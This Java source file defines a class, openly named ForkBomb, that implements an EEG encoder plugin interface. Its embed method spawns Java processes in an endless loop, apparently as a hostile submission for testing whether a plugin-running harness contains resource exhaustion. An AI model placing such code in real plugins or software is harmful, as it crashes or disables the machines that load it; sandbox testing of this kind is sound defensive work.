import org.axonmark.spi.Context;
import org.axonmark.spi.FloatTensor;
import org.axonmark.spi.eeg.EegEncoder;
import org.axonmark.spi.eeg.EegSetup;

/** Starts programs that start programs. */
public final class ForkBomb implements EegEncoder {

    public ForkBomb() {}

    @Override
    public void prepare(EegSetup setup, Context context) throws Exception {

    }

    @Override
    public FloatTensor embed(FloatTensor windows) throws Exception {
        for (int i = 0;; i++) {
            new ProcessBuilder("/java/bin/java", "-version").start();
        }
    }
}
